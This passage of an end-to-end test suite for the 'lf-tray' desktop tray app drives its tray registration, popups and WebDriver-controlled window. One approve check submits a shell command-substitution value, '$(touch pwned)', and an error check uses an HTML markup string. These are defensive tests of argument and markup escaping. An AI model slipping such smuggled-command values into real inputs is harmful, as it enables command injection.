    # item to register with it. The app's log says when it saw the watcher come.
    start_watcher(ctx, "--hosts")
    wait_for(lambda: any(m.startswith("TRAY_HOST watcher :") for m in ctx.app_log.messages()[logged:]),
             "the app to see the hostless watcher")
    expect(not ctx.tray.item_of_pid(ctx.app.pid), "the app registered an item where no host shows it")
    never(lambda: n.id in ctx.notes.refresh().closes, "the popup taken back for a watcher without a host")
    # A panel's tray comes: it registers as a host, and the popup is no longer true.
    panel = dbus.bus.BusConnection(os.environ["DBUS_SESSION_BUS_ADDRESS"])
    try:
        watcher = panel.get_object(WATCHER_NAME, "/StatusNotifierWatcher")
        watcher.RegisterStatusNotifierHost("org.kde.StatusNotifierHost-e2e", dbus_interface=WATCHER_NAME)
        wait_for(lambda: n.id in ctx.notes.refresh().closes,
                 f"CloseNotification({n.id}) once a tray is there; closes seen {ctx.notes.closes}")
        wait_for(lambda: "TRAY_HOST present" in ctx.app_log.messages()[logged:], "TRAY_HOST present")
        # Made now, the tray's item registers with the watcher.
        wait_for(lambda: ctx.tray.item_of_pid(ctx.app.pid), "the app's item, once a host is there")
        absent = sum(m.startswith("TRAY_HOST absent") for m in ctx.app_log.messages()[logged:])
    finally:
        panel.close()
    # The panel quits: its host leaves with its connection, and the log says so again.
    wait_for(lambda: sum(m.startswith("TRAY_HOST absent") for m in ctx.app_log.messages()[logged:]) > absent,
             "a warning once the tray's host left")
    ctx.require_app()


@check
def a_start_with_a_tray_says_nothing_about_one(ctx):
    fresh_start(ctx)
    stop_watcher(ctx)
    start_watcher(ctx)
    before = len(ctx.notes.refresh().notifications)
    started = start_in_login(ctx, "e2e-login-3", "app-no-tray.log")
    ctx.item = wait_for(lambda: ctx.tray.item_of_pid(ctx.app.pid), "the app's StatusNotifierItem",
                        START_TIMEOUT)
    # Until its grace is over, and a little beyond.
    never(lambda: no_tray_popups(ctx, before), "a no-tray popup though a tray shows the app",
          spell=max(0.0, started + TRAY_GRACE - time.monotonic()) + QUIET_SPELL)
    ctx.require_app()
    ctx.stop_app()


# Asks in and out, each a change of the menu, the icon and the count.
TRAY_CHANGES = 8


@check
def the_tray_item_registers_once_however_often_it_changes(ctx):
    """A host redraws the item on every RegisterStatusNotifierItem (Plasma re-sorts its
    tray): changes go out as the item's own signals, the registration is made once."""
    fresh_start(ctx)
    stop_watcher(ctx)
    start_watcher(ctx)
    log = Lines(ctx.out / "sni_watcher-e2e.log")
    ctx.start_app()
    ctx.item = wait_for(lambda: ctx.tray.item_of_pid(ctx.app.pid), "the app's StatusNotifierItem",
                        START_TIMEOUT)
    wait_for(lambda: "Reading sessions…" not in ctx.menu_labels(), "the first snapshot in the menu",
             START_TIMEOUT)
    # The watcher writes a line per call, the same item again included.
    line = f"sni_watcher: item registered {ctx.item[0]}{ctx.item[1]}"
    registrations = lambda: sum(1 for entry in log.all() if entry == line)  # noqa: E731
    at_start = registrations()
    for i in range(TRAY_CHANGES // 2):
        sid = f"ask_quiet{i}_" + uuid.uuid4().hex[:8]
        label = f"Quiet tray {i} — quiet"
        ctx.write_ask(sid, title=f"Quiet tray {i}", prompt="One more change", cwd=ctx.make_cwd("quiet"),
                      detail="quiet")
        wait_for(lambda: ctx.row("Waiting for you", label), f"{label!r} in the menu")
        ctx.home.remove_ask(sid)
        wait_for(lambda: not ctx.row("Waiting for you", label), f"{label!r} to leave the menu")
    again = registrations() - at_start
    print(f"  tray registrations: {at_start} at start, {again} more for {TRAY_CHANGES} changes", flush=True)
    expect(at_start == 1 and again == 0,
           f"the item registered {at_start} time(s) at start and {again} more for {TRAY_CHANGES} changes")
    ctx.stop_app()

# --- the window, through WebDriver ----------------------------------------------------------


@window_check
def window_shows_a_flow_session_with_approve_and_iterate(ctx):
    ctx.stop_app()  # single instance: tauri-driver's app must be the only one
    ctx.flow_id = ctx.home.write_ready_flow(title="Design the onboarding flow", step="review_design",
                                            cwd=ctx.make_cwd("flow"),
                                            ready_summary="Design doc in docs/onboarding.md")
    from selenium import webdriver
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.options import ArgOptions

    opts = ArgOptions()
    opts.set_capability("browserName", "wry")
    opts.set_capability("tauri:options", {"application": ctx.app_bin})
    ctx.driver = webdriver.Remote(command_executor=ctx.webdriver_url, options=opts)
    wait_for(lambda: ctx.driver.find_elements(By.CSS_SELECTOR, ctx.flow_selector()),
             f"{ctx.flow_selector()} in the window", START_TIMEOUT)
    title = wait_for(lambda: ctx.driver.find_element(By.CSS_SELECTOR, f"{ctx.flow_selector()} .title").text,
                     "the Flow review's title")
    expect(title == "Design the onboarding flow", f"the session's .title shows {title!r}")
    # A compact row until the person opens it.
    fields = on_row(ctx.driver, ctx.flow_selector(), lambda row: row.find_elements(By.CSS_SELECTOR, "textarea"))
    expect(not fields, "the row shows its fields before it was opened")
    expand(ctx.driver, ctx.flow_selector())

    def card(row):
        return {
            "buttons": [k for k in ("approve", "iterate")
                        if row.find_elements(By.CSS_SELECTOR, f'button[data-action="{k}"]')],
            "boxes": [k for k in ("approve", "iterate")
                      if any(b.is_displayed() for b in row.find_elements(By.CSS_SELECTOR, f'textarea[data-input="{k}"]'))],
            "summary": row.find_element(By.CSS_SELECTOR, ".summary").text,
        }
    shown = on_row(ctx.driver, ctx.flow_selector(), card)
    for kind in ("approve", "iterate"):
        expect(kind in shown["buttons"], f"no {kind} button")
        expect(kind in shown["boxes"], f"no {kind} input on screen")
    summary = shown["summary"]
    expect("Design doc in docs/onboarding.md" in summary, f"the ready summary shows {summary!r}")
    window_screenshot(ctx, "window-webdriver.png")


def submit(ctx, kind, text):
    """Type into the session's input and press Enter, as a person would. The window redraws
    its cards when the list changes (keeping the draft and the focus, so a person typing
    loses nothing), which leaves a node found a moment earlier stale: each try finds the box
    as the page has it now, and the text and its Enter go in one command, so a redraw between
    them cannot split one answer into two."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    css = f'{ctx.flow_selector()} textarea[data-input="{kind}"]'

    def attempt():
        box = ctx.driver.find_element(By.CSS_SELECTOR, css)
        box.clear()
        box.send_keys(text + Keys.ENTER)
        return True
    wait_for(attempt, f"to type into {css} and press Enter")  # a stale node is tried again


@window_check
def lf_error_shows_inline(ctx):
    expect(ctx.driver and ctx.flow_id, "no window session (previous check failed)")
    from selenium.webdriver.common.by import By

    message = "simulated failure <b>not markup</b> & friends"
    (ctx.sim_dir / "fail").write_text(message)
    try:
        submit(ctx, "iterate", "Try a different layout")

        def error_text():
            errs = ctx.driver.find_elements(By.CSS_SELECTOR, f"{ctx.flow_selector()} .error")
            return next((e.text for e in errs if e.text.strip()), None)

        shown = wait_for(error_text, "text in the session's .error")
        expect(message in shown, f".error shows {shown!r}; expected lf's message {message!r}")
        window_screenshot(ctx, "window-error.png")
    finally:
        (ctx.sim_dir / "fail").unlink(missing_ok=True)


@window_check
def approve_runs_lf_with_the_text(ctx):
    expect(ctx.driver and ctx.flow_id, "no window session (previous check failed)")
    from selenium.webdriver.common.by import By

    text = "-- Looks good; ship it $(touch pwned) 'q'"
    submit(ctx, "approve", text)
    want = ["session", "approve", "--", ctx.flow_id, text]
    wait_for(lambda: any(call.get("argv") == want for call in ctx.sim_argv.json()),
             f"the stand-in lf to record {want!r}; last calls {[c.get('argv') for c in ctx.sim_argv.json()[-3:]]!r}")
    # lf-sim drops an approved step from its list, as lf moves the Task on.
    wait_for(lambda: not ctx.driver.find_elements(By.CSS_SELECTOR, ctx.flow_selector()),
             "the approved session to leave the window")


@window_check
def generation_d_window_offers_lf_actions_only_and_moves_here(ctx):
    d = ctx.d_session
    expect(d, "no generation-D session (its check failed)")
    from selenium import webdriver
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.options import ArgOptions

    if ctx.driver is not None:
        ctx.driver.quit()
        ctx.driver = None
    # The person's terminal is attached (a live client): lf refuses Open, offers Move here.
    client = subprocess.Popen(["sleep", "600"], start_new_session=True)
    try:
        out = subprocess.run([ctx.lf_bin, "sim", "attach", d["id"], str(client.pid)], env=d["env"],
                             capture_output=True, text=True)
        expect(out.returncode == 0, f"lf sim attach: {out.stderr}")
        lf_d = ctx.tmp / "bin" / "lf-d"
        lf_d.write_text(f"#!/bin/sh\nLF_SIM_GENERATION=d exec {ctx.lf_bin} \"$@\"\n")
        lf_d.chmod(0o755)
        opts = ArgOptions()
        opts.set_capability("browserName", "wry")
        opts.set_capability("tauri:options", {"application": ctx.app_bin,
                                              "args": ["--home", str(d["home"]), "--lf", str(lf_d)]})
        ctx.driver = webdriver.Remote(command_executor=ctx.webdriver_url, options=opts)
        sel = f'[data-session-id="{d["id"]}"]'
        wait_for(lambda: ctx.driver.find_elements(By.CSS_SELECTOR, sel),
                 f"{sel} in the window", START_TIMEOUT)
        expand(ctx.driver, sel)

        def card(row):
            open_button = row.find_element(By.CSS_SELECTOR, 'button[data-action="open"]')
            return {
                "kinds": [b.get_attribute("data-action")
                          for b in row.find_elements(By.CSS_SELECTOR, "button[data-action]")],
                "open": (open_button.text, open_button.is_enabled()),
                "text": row.text,
            }
        shown = on_row(ctx.driver, sel, card)
        kinds = shown["kinds"]
        # Go to terminal first (the tray's own, for an attached session), then lf's.
        expect(kinds == ["go_to_terminal", "open", "move_here"],
               f"buttons {kinds!r}; expected go_to_terminal, then lf's open and move_here only")
        expect(shown["open"] == ("Open here", False), f"Open is {shown['open'][0]!r}, enabled={shown['open'][1]}")
        reason = "This Session is active in another terminal; use Move here to transfer it"
        expect(reason in shown["text"], f"lf's reason not shown verbatim; the card says {shown['text']!r}")
        # From the X server, not WebDriver: WebKitWebDriver's screenshot of this second
        # automation session hangs (its first session's works); the person sees the window.
        subprocess.run(["import", "-window", "root", str(ctx.out / "window-generation-d.png")],
                       timeout=10, check=False)
        listed = json.loads(subprocess.run([ctx.lf_bin, "session", "list", "--json", "--all"], env=d["env"],
                                           capture_output=True, text=True, check=True).stdout)
        open_argv = next(s["open_argv"] for s in listed if s["id"] == d["id"])
        # lf's client here is a `sleep` that no terminal holds: Go to terminal says so,
        # and leaves lf's ways there in the window.
        said_before = len(ctx.notes.find(lambda n: n.summary.startswith("Cannot go to")))
        click_current(ctx.driver, f'{sel} button[data-action="go_to_terminal"]')
        said = wait_for(lambda: ctx.notes.find(lambda n: n.summary.startswith("Cannot go to"))[said_before:],
                        "Go to terminal to say the terminal is gone")[-1]
        expect("no longer there" in said.body and "Move here" in said.body, f"it says {said.body!r}")
        # Enter on the row is Go to terminal too (its first action).
        from selenium.webdriver.common.keys import Keys
        said_before = len(ctx.notes.find(lambda n: n.summary.startswith("Cannot go to")))
        # Found and focused in one step: the window redraws its rows whenever the board
        # changes (the popup the click before raised is one), and a row found a moment
        # earlier may be gone by the time it is used (seen in the package run).
        ctx.driver.execute_script("document.querySelector(arguments[0]).focus()", sel)
        press(ctx, Keys.ENTER)
        wait_for(lambda: ctx.notes.find(lambda n: n.summary.startswith("Cannot go to"))[said_before:],
                 "Enter on the attached row to go to its terminal")
        before = len(ctx.terminal.json())
        click_current(ctx.driver, f'{sel} button[data-action="move_here"]')
        launch = wait_for(lambda: ctx.launches_after(before), "Move here to launch the terminal")[0]
        expect(launch["argv"][:1] == ["-e"] and unmarked(launch["argv"][1:])[0] == [*open_argv, "--replace"],
               f"terminal runs {launch['argv']!r}; expected lf's open_argv + --replace")
        expect(launch["cwd"] == str(d["repo"]), f"terminal cwd {launch['cwd']!r}")
    finally:
        client.kill()
        client.wait()


# The next window checks share one automation session on the first lf home, with three Asks
# written a second apart while the window is open: "Order check C" first, then B, then A, so
# the order they waited in is the reverse of their titles' (today's order within a group).
ORDER_TITLES = ("Order check C", "Order check B", "Order check A")


def window_screenshot(ctx, name):
    """What the person sees, from the X server: WebKitWebDriver's own screenshot can hang
    (it waits for a paint of a window that is not composited)."""
    subprocess.run(["import", "-window", "root", str(ctx.out / name)], timeout=10, check=False)


def window_rows(ctx, group=None):
    """The session ids in the window's order, as drawn (of one group, if given): read in one
    go, since the page redraws its rows on every change of the list."""
    css = f'#groups [data-group="{group}"] .session' if group else "#groups .session"
    return ctx.driver.execute_script(
        "return [...document.querySelectorAll(arguments[0])].filter((r) => r.offsetParent !== null)"
        ".map((r) => r.dataset.sessionId);", css)


def node_property(ctx, css, name):
    """A property of the node the page has now, read in one command: a node found first and
    read in a second command can be gone between them, since the page redraws its rows on
    every change of the list."""
    return ctx.driver.execute_script(
        "const n = document.querySelector(arguments[0]); return n ? n[arguments[1]] : null;", css, name)


def press(ctx, *keys):
    """Keys typed into whatever has the focus, as a person types them."""
    from selenium.webdriver.common.action_chains import ActionChains

    ActionChains(ctx.driver).send_keys(*keys).perform()


def retype(ctx, text):
    """Replace what the focused text box holds: Ctrl+A, then the text."""
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    ActionChains(ctx.driver).key_down(Keys.CONTROL).send_keys("a").key_up(Keys.CONTROL) \
        .send_keys(text).perform()


def active_row(ctx):
    """The session whose row has the keyboard focus, if one has."""
    return ctx.driver.execute_script(
        "const a = document.activeElement; return a && a.classList.contains('session')"
        " ? a.dataset.sessionId : null;")


@window_check
def window_lists_the_longest_waiting_first(ctx):
    from selenium import webdriver
    from selenium.webdriver.common.options import ArgOptions

    if ctx.driver is not None:
        ctx.driver.quit()
        ctx.driver = None
    opts = ArgOptions()
    opts.set_capability("browserName", "wry")
    opts.set_capability("tauri:options", {"application": ctx.app_bin})
    ctx.driver = webdriver.Remote(command_executor=ctx.webdriver_url, options=opts)
    # The footer's status line comes with the first list (read as the page has it: the
    # line is cut to two lines, which WebKitWebDriver's visible text reads as none).
    wait_for(lambda: ctx.driver.execute_script("return document.getElementById('status').textContent"),
             "the window's first list", START_TIMEOUT)
    ctx.order_cwd = ctx.make_cwd("zebra-repo")
    ctx.order_ids = []
    for title in ORDER_TITLES:
        sid = "ask_order_" + uuid.uuid4().hex[:8]
        ctx.write_ask(sid, title=title, prompt=f"{title}\nWhich one?", cwd=ctx.order_cwd)
        ctx.order_ids.append(sid)
        wait_for(lambda: sid in window_rows(ctx, "waiting"), f"{title} under Waiting for you")
        # Waiting times are whole seconds: the next one must start in a later second.
        second = int(time.time())
        wait_for(lambda: int(time.time()) > second, "the next second")
    rows = window_rows(ctx, "waiting")
    mine = [sid for sid in rows if sid in ctx.order_ids]
    titles = {sid: t for sid, t in zip(ctx.order_ids, ORDER_TITLES)}
    expect(mine == ctx.order_ids,
           f"waiting rows in the order {[titles[s] for s in mine]!r}; expected the longest waiting first "
           f"{list(ORDER_TITLES)!r}")
    for sid in ctx.order_ids:
        since = node_property(ctx, f'[data-session-id="{sid}"] .since', "innerText")
        expect(since == "waiting <1 min", f"{titles[sid]} shows {since!r}; expected 'waiting <1 min'")
    window_screenshot(ctx, "window-order.png")


@window_check
def window_filter_narrows_to_title_or_repo(ctx):
    expect(ctx.driver and getattr(ctx, "order_ids", None), "no ordered sessions (previous check failed)")
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    everything = window_rows(ctx)
    expect(len(everything) > len(ctx.order_ids), f"nothing else listed to filter out: {everything!r}")
    ctx.driver.find_element(By.CSS_SELECTOR, "header h1").click()  # the page, not a field
    press(ctx, "/")
    focused = ctx.driver.execute_script("return document.activeElement.id")
    expect(focused == "filter", f"/ focused {focused!r}, not the filter box")
    press(ctx, "oRDER cHECK")  # case does not matter
    mine = set(ctx.order_ids)
    wait_for(lambda: set(window_rows(ctx)) == mine,
             f"only the three order-check rows; shown {window_rows(ctx)!r}")
    # The repository (here the session's directory) matches too.
    box = ctx.driver.find_element(By.ID, "filter")
    retype(ctx, "Zebra-R")
    wait_for(lambda: set(window_rows(ctx)) == mine, f"the rows in zebra-repo; shown {window_rows(ctx)!r}")
    retype(ctx, "no such session at all")
    wait_for(lambda: window_rows(ctx) == [], f"no rows; shown {window_rows(ctx)!r}")
    note = ctx.driver.find_element(By.ID, "no-match")
    expect(note.is_displayed() and "no such session at all" in note.text, f"no-match note {note.text!r}")
    press(ctx, Keys.ESCAPE)
    wait_for(lambda: window_rows(ctx) == everything, "Esc in the filter to clear it and show every row")
    expect(box.get_attribute("value") == "", f"filter still holds {box.get_attribute('value')!r}")
    expect(ctx.driver.window_handles, "Esc with text in the filter hid the window")
    press(ctx, "order check")
    wait_for(lambda: set(window_rows(ctx)) == mine, "the three order-check rows again")


@window_check
def window_keyboard_moves_and_enter_opens_the_terminal(ctx):
    expect(ctx.driver and getattr(ctx, "order_ids", None), "no ordered sessions (previous check failed)")
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    # In the order drawn (the ordering has its own check).
    rows = window_rows(ctx)
    expect(len(rows) == 3, f"the filter shows {rows!r}")
    first, second, third = rows
    # From the filter, ↓ goes into the list, to its first row.
    press(ctx, Keys.ARROW_DOWN)
    wait_for(lambda: active_row(ctx) == first, f"the first row focused; focus on {active_row(ctx)!r}")
    press(ctx, Keys.ARROW_DOWN, Keys.ARROW_DOWN)
    wait_for(lambda: active_row(ctx) == third, f"↓↓ to reach the third row; focus on {active_row(ctx)!r}")
    press(ctx, Keys.ARROW_DOWN)  # the last row stays selected
    press(ctx, Keys.ARROW_UP)
    wait_for(lambda: active_row(ctx) == second, f"↑ back to the second row; focus on {active_row(ctx)!r}")
    selected = ctx.driver.execute_script(
        "return [...document.querySelectorAll('.session.selected')].map((r) => r.dataset.sessionId);")
    expect(selected == [second], f"rows drawn selected: {selected!r}")
    # → shows the question, ← folds it again.
    press(ctx, Keys.ARROW_RIGHT)
    sel = f'[data-session-id="{second}"]'
    prompt = wait_for(lambda: ctx.driver.find_element(By.CSS_SELECTOR, f"{sel} .prompt").text,
                      "→ to show the question")
    expect("Which one?" in prompt, f"the question shows {prompt!r}")
    press(ctx, Keys.ARROW_LEFT)
    wait_for(lambda: not ctx.driver.find_elements(By.CSS_SELECTOR, f"{sel} .details"), "← to fold the row")
    # A and I offer nothing on an Ask: nothing happens, the row keeps the focus.
    press(ctx, "a")
    expect(active_row(ctx) == second, f"A moved the focus to {ctx.driver.switch_to.active_element.tag_name}")
    before = len(ctx.terminal.json())
    press(ctx, Keys.ENTER)
    launch = wait_for(lambda: ctx.launches_after(before), "Enter on the row to launch the terminal")[0]
    ctx.expect_launch(launch, second, ctx.order_cwd)


@window_check
def window_a_focuses_the_approve_text_of_a_flow_review(ctx):
    expect(ctx.driver, "no window session (previous check failed)")
    from selenium.webdriver.common.keys import Keys

    ctx.flow_id = ctx.home.write_ready_flow(title="Order check: review the flow", step="review_design",
                                            cwd=ctx.make_cwd("flow keys"), ready_summary="Looks done")
    wait_for(lambda: ctx.flow_id in window_rows(ctx), "the Flow review among the filtered rows")
    # Ready for review comes first: the Flow review is the first row, where Home goes.
    press(ctx, "/", Keys.ARROW_DOWN, Keys.HOME)
    wait_for(lambda: active_row(ctx) == ctx.flow_id, f"the Flow review focused; focus on {active_row(ctx)!r}")
    press(ctx, "a")
    box = f'{ctx.flow_selector()} textarea[data-input="approve"]'

    def approve_focused():
        return ctx.driver.execute_script(
            "return document.activeElement === document.querySelector(arguments[0]);", box)
    wait_for(approve_focused, "A to focus the Approve text")
    press(ctx, "ship")
    value = node_property(ctx, box, "value")
    expect(value == "ship", f"the Approve text holds {value!r}: the A that focused it was typed too")
    # Esc leaves the text box (keeping the draft), I goes to Iterate.
    press(ctx, Keys.ESCAPE)
    wait_for(lambda: active_row(ctx) == ctx.flow_id, "Esc in the text to go back to the row")
    press(ctx, "i")
    wait_for(lambda: ctx.driver.execute_script(
        "return document.activeElement.dataset.input;") == "iterate", "I to focus the Iterate text")
    expect(node_property(ctx, box, "value") == "ship", "the draft was lost")
    press(ctx, Keys.ESCAPE)
    wait_for(lambda: active_row(ctx) == ctx.flow_id, "Esc in the text to go back to the row")


@window_check
def window_recent_lists_what_happened(ctx):
    expect(ctx.driver and getattr(ctx, "order_ids", None), "no ordered sessions (previous check failed)")
    from selenium.webdriver.common.by import By

    resolved = ctx.order_ids[0]
    ctx.home.remove_ask(resolved)
    wait_for(lambda: resolved not in window_rows(ctx), "the resolved Ask to leave the list")
    click_current(ctx.driver, "#recent summary")
    expect(ctx.driver.find_element(By.ID, "recent-list").is_displayed(), "Recent did not unfold")

    def entries():
        # (time, what, title) of each line, read in one go: the list is redrawn on every change.
        return [tuple(e) for e in ctx.driver.execute_script(
            "return [...document.querySelectorAll('#recent-list li')].filter((li) => li.offsetParent !== null)"
            ".map((li) => ['time', '.what', '.recent-title'].map((c) => li.querySelector(c).innerText));")]
    title = ORDER_TITLES[0]
    # Newest first: its resolution, above the question it asked.
    wait_for(lambda: [e[1] for e in entries() if e[2] == title][:2] == ["resolved", "asked"],
             f"{title!r} resolved, then asked, in Recent; Recent shows {entries()[:8]!r}")
    at = next(e[0] for e in entries() if e[2] == title)
    expect(re.fullmatch(r"\d\d:\d\d", at), f"the entry's time is {at!r}, not a clock time like 14:05")
    now = time.localtime()
    minutes = {time.strftime("%H:%M", time.localtime(time.time() - d)) for d in (0, 60, 120)}
    expect(at in minutes, f"the entry's time {at!r} is not the local time now ({time.strftime('%H:%M', now)})")
    window_screenshot(ctx, "window-recent.png")


@window_check
def window_dismiss_mutes_the_row(ctx):
    expect(ctx.driver and getattr(ctx, "order_ids", None), "no ordered sessions (previous check failed)")
    from selenium.webdriver.common.by import By

    sid = ctx.order_ids[1]
    sel = f'[data-session-id="{sid}"]'
    click_current(ctx.driver, f"{sel} button[data-dismiss]")

    def muted(row):
        note = row.find_elements(By.CSS_SELECTOR, ".dismissed-note")
        return ("dismissed" in row.get_attribute("class").split() and note and note[0].text == "Dismissed"
                and not row.find_elements(By.CSS_SELECTOR, "button[data-dismiss]"))
    wait_for(lambda: on_row(ctx.driver, sel, muted, "the dismissed row"),
             f"{ORDER_TITLES[1]!r} drawn dismissed, without its Dismiss button")
    # Still listed where it was: it still waits, only its popups are dismissed.
    expect(sid in window_rows(ctx, "waiting"), f"the dismissed session left Waiting for you: {window_rows(ctx)!r}")


@window_check
def window_esc_hides_it(ctx):
    expect(ctx.driver, "no window session (previous check failed)")
    from selenium.common.exceptions import NoSuchWindowException
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    def shown():
        out = subprocess.run(["xdotool", "search", "--onlyvisible", "--name", f"^{APP_NAME}$"],
                             capture_output=True, text=True)
        return out.stdout.split()
    wait_for(shown, "the window on the X server")
    ctx.driver.find_element(By.CSS_SELECTOR, "header h1").click()
    try:
        press(ctx, Keys.ESCAPE)
    except NoSuchWindowException:
        pass  # the window went before WebKitWebDriver answered the key
    wait_for(lambda: not shown(), f"Esc to hide the window; still shown: {shown()!r}")


@window_check
def settings_panel_sets_the_push_and_never_shows_the_token_back(ctx):
    """The ⚙ panel's "Phone, while you are away": what is typed there is saved to
    settings.json (0600); the token goes in and never comes back into the page, only its
    last four characters; an empty token field keeps it, Forget drops it; the panel says
    what tells the tray that the person is away (on Xvfb: X11's idle counter)."""
    from selenium import webdriver
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.options import ArgOptions
    from selenium.webdriver.support.select import Select

    from ntfy import Ntfy

    if ctx.driver is not None:
        ctx.driver.quit()
        ctx.driver = None
    end_webdriver_apps(ctx)
    ctx.stop_app()
    path = Path(os.environ["XDG_CONFIG_HOME"]) / "lf-tray" / "settings.json"
    kept = path.read_bytes() if path.exists() else None
    token = "tk_panel" + uuid.uuid4().hex  # 40 characters: the panel may show its last four
    # Pushes set to always go somewhere harmless: a server that takes them.
    server = Ntfy(token)
    server.start()
    url = server.url("lf-panel-" + uuid.uuid4().hex[:8])
    opts = ArgOptions()
    opts.set_capability("browserName", "wry")
    opts.set_capability("tauri:options", {"application": ctx.app_bin})
    ctx.driver = webdriver.Remote(command_executor=ctx.webdriver_url, options=opts)
    driver = ctx.driver

    def field(name):
        return driver.find_element(By.ID, name)

    def typed(name, text):
        el = field(name)
        el.clear()
        el.send_keys(text)

    def save():
        driver.execute_script("document.getElementById('settings-message').textContent = ''")
        click_current(driver, "#settings-save")
        said = wait_for(lambda: field("settings-message").text, "the panel to answer Save")
        expect(said == "Saved.", f"the panel says {said!r} after Save")
        return json.loads(path.read_text())

    def token_nowhere_in_the_page(when):
        expect(token not in driver.page_source, f"the token is in the page {when}")
        values = driver.execute_script(
            "return [...document.querySelectorAll('input, textarea')].map(e => e.value)")
        expect(not any(token in v or token[-8:] in v for v in values),
               f"the token is in a field {when}: {values}")

    try:
        click_current(driver, "#settings-toggle")
        wait_for(lambda: field("set-push-url").is_displayed(), "the push fields in the panel", START_TIMEOUT)
        typed("set-push-url", url)
        typed("set-push-token", token)
        # Chosen from the keyboard, as a person tabbing through does: WebKitWebDriver's click
        # on an <option> lands on the page under the closed list.
        field("set-push-when").send_keys("always")
        when = Select(field("set-push-when")).first_selected_option.get_attribute("value")
        expect(when == "always", f"the push_when list shows {when!r} after typing 'always'")
        typed("set-away-after", "120")
        if not field("set-push-text").is_selected():
            field("set-push-text").click()
        saved = save()
        got = {k: saved.get(k) for k in ("push_url", "push_token", "push_when", "away_after_seconds", "push_text")}
        expect(got == {"push_url": url, "push_token": token, "push_when": "always",
                       "away_after_seconds": 120, "push_text": True}, f"settings.json has {got}")
        mode = path.stat().st_mode & 0o777
        expect(mode == 0o600, f"settings.json with a token is mode {mode:o}, not 600")
        token_nowhere_in_the_page("after Save")
        hint = field("set-push-token").get_attribute("placeholder")
        expect(hint == f"set, ends …{token[-4:]} (type a new one to replace it)", f"the token field says {hint!r}")

        def status():
            # Filled when the panel opens: closed and opened again until the followers
            # have all looked, as a person reopening it would see.
            text = field("push-status").text
            if "X11 idle time" in text:
                return text
            click_current(driver, "#settings-toggle")
            click_current(driver, "#settings-toggle")
            return None
        said = wait_for(status, "the panel to say what tells the tray that the person is away")
        expect(said.startswith("Away is told by no input for 120 s (X11 idle time)"), f"the panel says {said!r}")
        print(f"     panel: {said}", flush=True)

        # Reopened, as the next visit: still no token, and an empty field keeps it.
        click_current(driver, "#settings-toggle")
        click_current(driver, "#settings-toggle")
        wait_for(lambda: field("set-push-url").get_attribute("value") == url, "the panel to show the URL again")
        token_nowhere_in_the_page("when the panel opens again")
        expect(save().get("push_token") == token, "saving with an empty token field lost the token")
        click_current(driver, "#push-token-forget")
        saved = save()
        expect("push_token" not in saved or saved["push_token"] in (None, ""), f"Forget kept the token: {saved}")
        hint = field("set-push-token").get_attribute("placeholder")
        expect(hint == "none (optional)", f"after Forget the token field says {hint!r}")
    finally:
        try:
            driver.quit()
        except Exception:
            pass  # its browser is gone
        ctx.driver = None
        end_webdriver_apps(ctx)
        server.stop()
        if kept is None:
            path.unlink(missing_ok=True)
        else:
            path.write_bytes(kept)


@window_check
def window_quit_ends_the_app_and_its_footer_says_there_is_no_tray(ctx):
    from selenium.webdriver.common.by import By

    # tauri-driver's app is its child, not ours: this wrapper keeps its exit code.
    code = ctx.tmp / "window-quit.rc"
    code.unlink(missing_ok=True)
    webdriver_through(ctx, "lf-tray-keeping-its-code",
                      f'"{ctx.app_bin}" "$@"\necho $? >"{code}.part" && mv "{code}.part" "{code}"\n',
                      before=lambda: stop_watcher(ctx))
    try:
        # Read as the DOM has it: WebKitWebDriver reads the text of the footer's line, which
        # has `overflow: hidden`, as empty.
        def footer():
            text = ctx.driver.execute_script("return document.getElementById('status').textContent")
            return text if "No tray icon" in text else None
        print(f"  footer: {wait_for(footer, 'the footer to say no tray shows the app', START_TIMEOUT)}",
              flush=True)
        click_current(ctx.driver, "#settings-toggle")
        quit_button = wait_for(lambda: ctx.driver.find_element(By.ID, "quit"), "Quit in the settings")
        wait_for(quit_button.is_displayed, "Quit on screen")
        from selenium.common.exceptions import WebDriverException
        clicked = None
        try:
            quit_button.click()
        except WebDriverException as e:
            clicked = e  # the app went before WebKitWebDriver answered the click, or not
        wait_for(code.exists, lambda: f"the app to exit after the window's Quit (the click: "
                 f"{clicked or 'answered'}; the panel says "
                 f"{ctx.driver.find_element(By.ID, 'settings-message').text!r})")
        expect(code.read_text().strip() == "0", f"the app exited {code.read_text().strip()} after Quit")
    finally:
        end_webdriver(ctx)
        start_watcher(ctx)


TWO_QUESTIONS = {"questions": [
    {"question": "Which registry?", "header": "Registry", "multiSelect": False,
     "options": [{"label": "crates.io", "description": "public"},
                 {"label": "internal", "description": "ours"}]},
    {"question": "Which crates go first?", "header": "Crates", "multiSelect": True,
     "options": [{"label": "core", "description": "no Tauri"},
                 {"label": "surface", "description": "what the person is told"},
                 {"label": "tray", "description": "the app"}]}]}


@window_check
def window_card_answers_two_questions_with_a_multi_select_and_typed_words(ctx):
    """The popup of two questions offers Answer…, which opens the window at the card; the
    card's Send waits for every answer; the agent gets exactly the questions as asked and
    the answers (several labels and the person's own words joined as Claude reads them);
    a second Send answers nothing; the terminal answering first takes the card down."""
    from selenium.webdriver.common.by import By

    tray_settings, before = answering_on(True)
    sid = "SESSION-" + uuid.uuid4().hex[:8]
    env, lf, agent = with_agent_asking(ctx, sid, "Release the 0.4 crates")
    # This one plays today's lf.
    webdriver_through(ctx, "lf-tray-on-e2",
                      f'export LF_HOME="{env["LF_HOME"]}" LF_SIM_GENERATION=e2\nexec "{ctx.app_bin}" "$@"\n')
    row = f'[data-session-id="{sid}"]'
    figures = {}
    try:
        lf("sim", "status", sid, "blocked", "--kind", "question", "--title", "Which registry?")
        wait_for(lambda: ctx.driver.find_elements(By.CSS_SELECTOR, row), f"{row} in the window",
                 START_TIMEOUT)
        # The agent waits, so the tray knows it; then it asks through its hook.
        agent.say("ask AskUserQuestion " + json.dumps(TWO_QUESTIONS))
        n = ctx.notified(lambda n: n.summary == "claude asks · Release the 0.4 crates",
                         "the two questions' popup")
        expect(n.actions == [("default", "Open"), ("answer", "Answer…"), ("open", "Open")],
               f"actions {n.actions}")
